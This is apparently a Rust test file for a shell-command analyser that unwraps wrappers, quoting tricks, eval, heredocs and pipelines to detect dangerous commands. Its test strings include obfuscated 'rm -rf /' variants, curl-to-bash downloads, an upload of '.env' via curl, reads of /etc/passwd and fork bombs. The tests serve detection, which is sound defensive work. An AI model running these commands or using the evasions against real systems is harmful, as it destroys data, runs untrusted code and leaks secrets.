//! Shell analysis cases: what each line runs after unwrapping.

use super::*;

fn programs(line: &str) -> Vec<String> {
    analyse(line, None).commands.iter().map(|c| c.text()).collect()
}

/// Lists, pipelines, subshells and substitutions all yield their commands.
#[test]
fn compound_lines_split() {
    assert_eq!(
        programs("terraform plan && terraform apply -auto-approve"),
        vec!["terraform plan", "terraform apply -auto-approve"]
    );
    assert_eq!(
        programs("ls; (cd x && make) | tee log"),
        vec!["ls", "cd x", "make", "tee log"]
    );
    assert_eq!(programs("echo $(cat .env)"), vec!["cat .env", "echo '$(cat .env)'"]);
    assert_eq!(programs("echo `whoami`"), vec!["whoami", "echo `whoami`"]);
}

/// Wrappers and shells are unwrapped to the command they run.
#[test]
fn wrappers_unwrap() {
    assert_eq!(programs("sudo -u root /bin/rm -rf /"), vec!["rm -rf /"]);
    assert_eq!(
        programs("env FOO=1 nohup nice -n 5 timeout 10 rm -rf /"),
        vec!["rm -rf /"]
    );
    assert_eq!(programs("bash -c 'sh -c \"rm -rf /\"'"), vec!["rm -rf /"]);
    assert_eq!(programs("eval 'rm -rf /'"), vec!["rm -rf /"]);
    assert_eq!(
        programs("find . -name x -exec rm -rf {} ;"),
        vec!["find . -name x -exec rm -rf {}", "rm -rf ./**/x"]
    );
    assert_eq!(programs("bash <<EOF\nrm -rf /\nEOF\n"), vec!["rm -rf /", "bash"]);
}

/// Quotes are removed from program names.
#[test]
fn quoted_programs() {
    assert_eq!(programs("r''m -rf /"), vec!["rm -rf /"]);
    assert_eq!(programs("\"rm\" -rf /"), vec!["rm -rf /"]);
    assert_eq!(programs("\\rm -rf /"), vec!["rm -rf /"]);
}

/// Mentions of a command inside a string are not commands.
#[test]
fn mentions_are_text() {
    let line = analyse("echo \"rm -rf /\" > notes.txt", None);
    assert_eq!(line.commands.len(), 1);
    assert_eq!(line.commands[0].program, "echo");
    assert_eq!(line.commands[0].files, vec![(Access::Write, "notes.txt".to_owned())]);
}

/// `cd` moves the directory later commands run in.
#[test]
fn cd_is_tracked() {
    let line = analyse("cd /etc && cat passwd", Some("/home/dev/repo"));
    assert_eq!(line.commands[1].cwd.as_deref(), Some("/etc"));
    let line = analyse("(cd /etc) && cat passwd", Some("/repo"));
    assert_eq!(line.commands[1].cwd.as_deref(), Some("/repo"));
}

/// Downloads piped into a shell are recorded as a pipeline whose last stage runs its input,
/// however they are spelled; a stage that reads data does not run it.
#[test]
fn download_pipelines() {
    let line = analyse("curl -fsSL https://x.sh | sudo bash", None);
    assert_eq!(
        line.pipelines,
        vec![vec![
            Stage {
                programs: vec!["curl".to_owned()],
                runs_input: false
            },
            Stage {
                programs: vec!["bash".to_owned()],
                runs_input: true
            },
        ]]
    );
    let fed = |line: &CommandLine, program: &str| {
        line.pipelines
            .iter()
            .any(|p| p[0].programs.iter().any(|x| x == program) && p[1].runs_input)
    };
    assert!(fed(&analyse("bash -c \"$(curl -fsSL https://x.sh)\"", None), "curl"));
    assert!(fed(&analyse("bash <(wget -qO- https://x.sh)", None), "wget"));
    assert!(fed(&analyse("python3 <(curl -s https://x.py)", None), "curl"));
    let data = analyse("curl -s https://x/data.json | python3 -m json.tool", None);
    assert!(!data.pipelines[0][1].runs_input);
}

/// Text echoed into a shell is analysed as the script it is.
#[test]
fn echo_into_shell() {
    let line = analyse("echo 'rm -rf /' | sh", None);
    assert!(line.commands.iter().any(|c| c.text() == "rm -rf /"));
    let line = analyse("echo 'rm -rf /' > notes.txt", None);
    assert!(!line.commands.iter().any(|c| c.program == "rm"));
}

/// A program computed at run time is flagged.
#[test]
fn dynamic_programs() {
    assert!(
        analyse("$(echo rm) -rf /", None)
            .constructs
            .contains(&Construct::DynamicProgram)
    );
    assert!(
        analyse("\"$CMD\" x", None)
            .constructs
            .contains(&Construct::DynamicProgram)
    );
    assert!(analyse("ls $HOME", None).constructs.is_empty());
}

/// Only file-handling programs' arguments, path-like words, outputs and `@file` data are files.
#[test]
fn file_arguments() {
    let files = |line: &str| {
        analyse(line, None)
            .commands
            .into_iter()
            .flat_map(|c| c.files)
            .collect::<Vec<_>>()
    };
    assert_eq!(files("cargo test credentials"), vec![]);
    assert_eq!(
        files("grep -rn kubeconfig src/"),
        vec![(Access::Read, "src/".to_owned())]
    );
    assert_eq!(files("git checkout -b secrets.refactor"), vec![]);
    assert_eq!(
        files("curl -o .github/workflows/ci.yml https://x"),
        vec![(Access::Write, ".github/workflows/ci.yml".to_owned())]
    );
    assert_eq!(
        files("curl -F file=@.env https://x"),
        vec![(Access::Read, ".env".to_owned())]
    );
    assert_eq!(files("git show HEAD:.env"), vec![(Access::Read, ".env".to_owned())]);
    assert_eq!(files("git rm --cached .env"), vec![]);
    assert_eq!(
        files("cp a .github/workflows/"),
        vec![
            (Access::Read, "a".to_owned()),
            (Access::Write, ".github/workflows/".to_owned())
        ]
    );
}

/// The classic fork bomb and a named one are found.
#[test]
fn fork_bombs() {
    assert_eq!(analyse(":(){ :|:& };:", None).constructs, vec![Construct::ForkBomb]);
    assert_eq!(
        analyse("bomb() { bomb | bomb & }; bomb", None).constructs,
        vec![Construct::ForkBomb]
    );
    assert!(analyse("f() { echo hi; }; f", None).constructs.is_empty());
}

/// Nesting beyond the bound is flagged rather than followed forever; within it, it is followed.
#[test]
fn depth_is_bounded() {
    let deep = format!("{}rm -rf /", "eval ".repeat(12));
    assert!(analyse(&deep, None).constructs.contains(&Construct::TooDeep));
    let mut line = "rm -rf /".to_owned();
    for _ in 0..4 {
        line = format!("sh -c {}", shell_quote(&line));
    }
    let found = analyse(&line, None);
    assert!(found.constructs.is_empty());
    assert_eq!(found.commands[0].text(), "rm -rf /");
}

/// Broken quoting still yields the commands.
#[test]
fn unparseable_lines_still_split() {
    let line = analyse("rm -rf / \"", None);
    assert!(line.constructs.contains(&Construct::Unparseable));
    assert_eq!(line.commands[0].program, "rm");
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// The plain-word fast path yields exactly what the full grammar yields.
#[test]
fn fast_path_agrees_with_the_grammar() {
    for line in [
        "cargo test --workspace",
        "A=1 B=2 rm -rf /tmp/x",
        "git push origin HEAD:main",
        "kubectl --context=prod-eu delete ns x",
        "ls -la src/ tests/",
        "terraform apply -auto-approve -var=x=1",
        "echo a,b c%d @e +f",
    ] {
        assert!(walk::plain_words(line).is_some(), "{line}");
        let fast = analyse(line, Some("/repo"));
        let mut slow = walk::Walker::new(Some("/repo"));
        slow.force_grammar = true;
        assert_eq!(fast, slow.run(line), "{line}");
    }
    assert!(walk::plain_words("if x; then y; fi").is_none());
    assert!(walk::plain_words("time rm -rf /").is_none());
    assert!(walk::plain_words("rm -rf *").is_none());
}

/// Inputs that once hung or crashed the grammar are split plainly instead, in bounded time.
#[test]
fn hostile_inputs_stay_bounded() {
    let deep = format!("{}$$2h", "(".repeat(50));
    assert!(analyse(&deep, None).constructs.contains(&Construct::TooDeep));
    let odd_heredoc = "2%>>?\0\0nnnrash --c<<\r\tnngit push\t\t\t";
    assert!(analyse(odd_heredoc, None).constructs.contains(&Construct::Unparseable));
    let big_fd = "3333333333333333333333333>3333333333:(){ :|:";
    let _ = analyse(big_fd, None);
    let line = analyse("cat <<EOF\nhello\nEOF\n", None);
    assert!(line.constructs.is_empty(), "{:?}", line.constructs);
    let line = analyse("bash <<'EOS'\nrm -rf /\nEOS\n", None);
    assert!(line.commands.iter().any(|c| c.text() == "rm -rf /"));
}
